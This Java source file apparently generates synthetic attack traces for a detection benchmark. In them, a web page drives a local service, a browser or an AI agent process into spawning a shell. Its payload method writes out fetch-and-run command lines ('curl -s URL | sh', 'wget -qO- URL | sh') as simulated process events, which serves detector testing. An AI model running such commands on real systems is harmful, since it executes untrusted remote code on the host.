package dev.rubato.bench.synthetic;

import dev.rubato.event.Address;
import dev.rubato.event.ProcessImage.Stdin;
import dev.rubato.event.ProcessKey;
import java.util.ArrayList;
import java.util.List;

/**
 * A page makes a service of the visitor's own host start a program, or the browser itself does: by path, by delay
 * between accept and start, and by who the client is.
 */
final class AutoJack {
    /** From the page to the hop, as far as hunters look back. */
    private static final long MOST_PAGE_TO_HOP_NS = 110 * Times.SECOND;

    private static final Address LOOPBACK = Address.parse("127.0.0.1");
    private static final long[] DELAYS_MS = {3, 50, 500, 1_900};

    private final SyntheticHost host;
    private final Client kind;
    private final long startNs;

    /** Who reaches the service. */
    private enum Client {
        HEADLESS("headless Chromium"),
        WINDOW("Chromium with a window"),
        AGENT("agent's own process"),
        SCRIPT("plain script");

        final String text;

        Client(String text) {
            this.text = text;
        }
    }

    /** How the program comes to be started. */
    private enum Path {
        LOOPBACK("loopback"),
        TWO_HOPS("two hops"),
        BACK_EDGE("back edge"),
        DIRECT("direct");

        final String text;

        Path(String text) {
            this.text = text;
        }
    }

    private AutoJack(long seed, Client kind) {
        host = new SyntheticHost("jacked", seed);
        this.kind = kind;
        startNs = SyntheticHost.START_NS + 4 * Times.DAY + 14 * Times.HOUR;
    }

    static List<Cell> cells() {
        List<Cell> cells = new ArrayList<>();
        for (Client client : Client.values()) {
            for (Path path : List.of(Path.LOOPBACK, Path.TWO_HOPS)) {
                for (long delay : DELAYS_MS) {
                    cells.add(cell(path, client, delay));
                }
            }
        }
        cells.add(cell(Path.BACK_EDGE, Client.HEADLESS, DELAYS_MS[0]));
        cells.add(cell(Path.DIRECT, Client.HEADLESS, 0));
        cells.add(cell(Path.DIRECT, Client.WINDOW, 0));
        return cells;
    }

    private static Cell cell(Path path, Client client, long delayMs) {
        String variant = path.text + ", " + client.text + ", " + delayMs + " ms";
        return Cell.of("AutoJack", "", -1, variant, seed -> new AutoJack(seed, client).trace(path, delayMs));
    }

    private Trace trace(Path path, long delayMs) {
        ProcessKey desktop = host.desktop(SyntheticHost.START_NS + Times.MINUTE);
        ProcessKey shell = host.terminal(startNs - 20 * Times.MINUTE, desktop);
        ProcessKey studio = host.start(
                startNs - 18 * Times.MINUTE, shell, "/usr/bin/python3", "/home/ada/.venv/bin/uvicorn", "web.app:app");
        int port = 8_081 + host.draws.between(0, 40);
        host.wire.listen(startNs - 17 * Times.MINUTE, studio, LOOPBACK, port);
        ProcessKey starter = path == Path.BACK_EDGE ? studio : host.terminal(startNs - 5 * Times.MINUTE, desktop);
        ProcessKey client = client(starter, startNs - Times.MINUTE);
        host.wire.exchange(startNs, client, host.draws.publicAddress(), 443, 2 * Times.SECOND, 2_000, 90_000);
        long hopNs = startNs + Times.seconds(host.draws.logUniform(0.3, (double) MOST_PAGE_TO_HOP_NS / Times.SECOND));
        ProcessKey parent = client;
        if (path != Path.DIRECT) {
            host.wire.connect(hopNs, client, LOOPBACK, port, Answer.ACCEPTED);
            parent = studio;
        }
        if (path == Path.TWO_HOPS) {
            parent = second(studio, desktop, hopNs);
        }
        long spawnNs = hopNs + delayMs * Times.MILLISECOND + Times.MILLISECOND;
        payload(parent, spawnNs);
        List<Long> steps = new ArrayList<>(List.of(spawnNs));
        return new Trace(host.events(spawnNs + Times.MINUTE), Truth.attack(startNs, steps, "spawn-chain"), 0);
    }

    /** The service asks a second one of its own, an instant after it was reached. */
    private ProcessKey second(ProcessKey studio, ProcessKey desktop, long hopNs) {
        ProcessKey shell = host.terminal(startNs - 16 * Times.MINUTE, desktop);
        ProcessKey tools = host.start(startNs - 15 * Times.MINUTE, shell, "/usr/bin/node", "/home/ada/tools/server.js");
        host.wire.listen(startNs - 15 * Times.MINUTE, tools, LOOPBACK, 9_400);
        host.wire.connect(hopNs + Times.MILLISECOND, studio, LOOPBACK, 9_400, Answer.ACCEPTED);
        return tools;
    }

    private ProcessKey client(ProcessKey starter, long atNs) {
        return switch (kind) {
            case HEADLESS -> {
                ProcessKey driver = host.start(atNs, starter, "/usr/bin/node", "/home/ada/agent/driver.js");
                yield Browser.start(host, atNs + Times.SECOND, driver, "--headless", "--remote-debugging-pipe")
                        .network();
            }
            case WINDOW -> Browser.start(host, atNs, starter).network();
            case AGENT -> {
                ProcessKey agent = host.start(atNs, starter, "/usr/bin/node", "/usr/local/bin/claude");
                yield host.start(atNs + Times.SECOND, agent, pipes(agent), "/usr/bin/python3", "fetch.py");
            }
            case SCRIPT -> host.start(atNs, starter, pipes(starter), "/usr/bin/python3", "assistant.py");
        };
    }

    private Place pipes(ProcessKey of) {
        return host.placeOf(of).withStdin(Stdin.PIPE);
    }

    private void payload(ProcessKey parent, long atNs) {
        Place piped = pipes(parent);
        String url = "http://" + host.draws.publicAddress() + "/" + host.draws.between(10, 99);
        ProcessKey shell = host.draws.chance(0.5)
                ? host.start(atNs, parent, piped, "/bin/bash", "-c", "curl -s " + url + " | sh")
                : host.start(atNs, parent, piped, "/bin/sh", "-c", "wget -qO- " + url + " | sh");
        ProcessKey fetch = host.start(atNs + 3 * Times.MILLISECOND, shell, piped, "/usr/bin/curl", "-s", url);
        ProcessKey inner = host.start(atNs + 4 * Times.MILLISECOND, shell, piped, "/bin/sh");
        host.wire.exchange(
                atNs + 20 * Times.MILLISECOND, fetch, host.draws.publicAddress(), 80, Times.SECOND / 3, 300, 40_000);
        host.exit(atNs + Times.SECOND, fetch);
        host.exit(atNs + 3 * Times.SECOND, inner);
        host.exit(atNs + 3 * Times.SECOND, shell);
    }
}
